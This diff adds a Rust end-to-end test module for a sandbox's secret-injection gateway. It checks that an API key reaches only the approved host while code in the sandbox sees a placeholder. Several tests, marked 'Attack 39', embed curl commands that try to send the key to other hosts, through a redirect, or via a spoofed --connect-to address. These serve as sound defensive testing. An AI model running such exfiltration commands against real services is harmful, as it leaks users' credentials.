@@ -1,0 +1,160 @@
+//! Secrets: the sandbox uses a value that it never sees.
+
+mod hidden;
+mod places;
+mod sources;
+
+use crate::world::{Person, World};
+use msb_e2e::{Gave, ends, eventually};
+use std::process::Command;
+
+/// A value that nothing else in the world holds, another for each test and person.
+fn value(person: &Person, test: &str) -> String {
+    format!("sk-{test}-{}-Zq7Xw9Kd3VtR1mPf", person.msb.uid())
+}
+
+const FLAGS: [&str; 2] = ["--secret", "API_KEY@api.example.com"];
+
+/// Runs a script in a new sandbox whose gateway has the value of `API_KEY`.
+#[track_caller]
+fn with_value(person: &Person, value: &str, flags: &[&str], script: &str) -> Gave {
+    let mut command = person.inside_command(flags, script);
+    ends(command.env("API_KEY", value).spawn().expect("msb can be executed"))
+}
+
+/// Makes a sandbox whose gateway has the value of `API_KEY`.
+#[track_caller]
+fn lasting(person: &Person, value: &str, name: &str, flags: &[&str]) {
+    let mut command: Command = person.lasting_command(name, flags);
+    ends(command.env("API_KEY", value).spawn().expect("msb can be executed")).ok();
+}
+
+/// The headers of that name in a request that arrived.
+fn header(request: &serde_json::Value, name: &str) -> Vec<String> {
+    let headers = request["headers"].as_array().expect("headers");
+    let is_it = headers.iter().filter(|pair| pair[0] == name);
+    is_it.map(|pair| pair[1].as_str().unwrap_or_default().to_owned()).collect()
+}
+
+/// The one request that arrived for a path with this word.
+#[track_caller]
+fn arrived(person: &Person, word: &str) -> serde_json::Value {
+    let requests = person.world.requests(word);
+    assert_eq!(requests.len(), 1, "{requests:#?}");
+    requests[0].clone()
+}
+
+#[test]
+fn the_value_arrives_and_the_sandbox_sees_a_placeholder() {
+    for person in World::people() {
+        let value = value(&person, "arrives");
+        let word = format!("arrives-{}", person.msb.uid());
+        let script = format!(
+            "echo \"$API_KEY\"; curl -sS https://api.example.com/{word} \
+             -H \"Authorization: Bearer $API_KEY\""
+        );
+        let gave = with_value(&person, &value, &FLAGS, &script).ok();
+        assert_eq!(header(&arrived(&person, &word), "authorization"), [format!("Bearer {value}")]);
+        // The server says back what it got; the sandbox sees as many stars.
+        assert!(!gave.stdout.contains(&value), "{gave:#?}");
+        let stars = format!("Bearer {}\"", "*".repeat(value.len()));
+        assert!(gave.stdout.contains(&stars), "{gave:#?}");
+        let placeholder = gave.stdout.lines().next().unwrap();
+        assert!(placeholder.len() > 8 && !value.contains(placeholder), "{placeholder}");
+    }
+}
+
+#[test]
+fn other_hosts_are_not_looked_into() {
+    for person in World::people() {
+        let value = value(&person, "others");
+        let script = "curl -sS --cacert /world/ca.pem https://other.example.com/ -o /dev/null \
+                      -w '%{http_code} %{ssl_verify_result}\\n'; \
+                      curl -sS https://api.example.com/ -o /dev/null -w '%{http_code}\\n'";
+        let gave = with_value(&person, &value, &FLAGS, script);
+        assert_eq!(gave.line(), "200 0\n200");
+    }
+}
+
+/// Attack 39.
+#[test]
+fn a_placeholder_for_somebody_else_is_refused_and_recorded() {
+    for person in World::people() {
+        let value = value(&person, "else");
+        let word = format!("else-{}", person.msb.uid());
+        lasting(&person, &value, "net", &FLAGS);
+        let script = format!(
+            "for url in http://other.example.com http://203.0.113.21 http://api.example.com; do \
+             curl -s -o /dev/null -w '%{{http_code}}\\n' $url/{word} \
+             -H \"Authorization: Bearer $API_KEY\"; done; \
+             curl -sS -o /dev/null -w '%{{http_code}}\\n' http://other.example.com/plain-{word}"
+        );
+        let gave = person.within("net", &script).ok();
+        assert_eq!(gave.stdout, "403\n403\n403\n200\n", "{gave:#?}");
+        let requests = person.world.requests(&word);
+        assert_eq!(requests.len(), 1, "{requests:#?}");
+        let denied = || {
+            let mut events = person.events("net", "API_KEY");
+            events.retain(|event| event["decided"]["decision"] == "deny");
+            events
+        };
+        eventually("all three are told", || denied().len() == 3);
+        let denied = denied();
+        assert_eq!(denied[0]["decided"]["secrets"][0], "API_KEY");
+    }
+}
+
+/// Attack 39: a redirect does not carry it elsewhere.
+#[test]
+fn a_redirect_elsewhere_does_not_carry_the_value() {
+    for person in World::people() {
+        let value = value(&person, "redirect");
+        let script = "curl -sS -L --location-trusted --cacert /world/both.pem \
+                      https://api.example.com/redirect -H \"Authorization: Bearer $API_KEY\"";
+        let script = format!("cat /world/ca.pem \"$SSL_CERT_FILE\" >/tmp/both.pem; {script}")
+            .replace("/world/both.pem", "/tmp/both.pem");
+        let gave = with_value(&person, &value, &FLAGS, &script);
+        assert_eq!(gave.line(), "evil");
+        let log = person.world.log("access");
+        assert!(log.contains("/landed"), "{log}");
+        assert!(!log.contains(&value), "{log}");
+    }
+}
+
+/// Only whoever proves to be the host gets it.
+#[test]
+fn the_value_goes_to_nobody_who_cannot_prove_who_they_are() {
+    for person in World::people() {
+        let value = value(&person, "proof");
+        let flags = ["--secret", "API_KEY@untrusted.example.com"];
+        let script = "curl -sk -o /dev/null -w '%{http_code}\\n' https://untrusted.example.com/ \
+                      -H \"Authorization: Bearer $API_KEY\"; true";
+        let gave = with_value(&person, &value, &flags, script).ok();
+        assert!(["502\n", "000\n"].contains(&gave.stdout.as_str()), "{gave:#?}");
+        assert!(!person.world.log("access").contains(&value));
+        // The same by a name whose address the guest chose.
+        let script = "curl -sk -o /dev/null -w '%{http_code}\\n' \
+                      --connect-to api.example.com:443:203.0.113.12:443 \
+                      https://api.example.com/fronted -H \"Authorization: Bearer $API_KEY\"; true";
+        with_value(&person, &value, &FLAGS, script).ok();
+        assert!(!person.world.log("access").contains(&value));
+    }
+}
+
+#[test]
+fn requests_without_the_placeholder_are_refused_where_it_is_required() {
+    for person in World::people() {
+        let value = value(&person, "require");
+        let word = format!("require-{}", person.msb.uid());
+        let flags = [&FLAGS[..], &["--secret-require"]].concat();
+        let script = format!(
+            "curl -sS -w '%{{http_code}}\\n' https://api.example.com/no-{word} | tail -1; \
+             curl -sS -o /dev/null -w '%{{http_code}}\\n' https://api.example.com/yes-{word} \
+             -H \"x-api-key: $API_KEY\""
+        );
+        let gave = with_value(&person, &value, &flags, &script).ok();
+        assert!(gave.stdout.contains("403\n") && gave.stdout.ends_with("200\n"), "{gave:#?}");
+        let requests = person.world.requests(&word);
+        assert_eq!(requests.len(), 1, "{requests:#?}");
+    }
+}
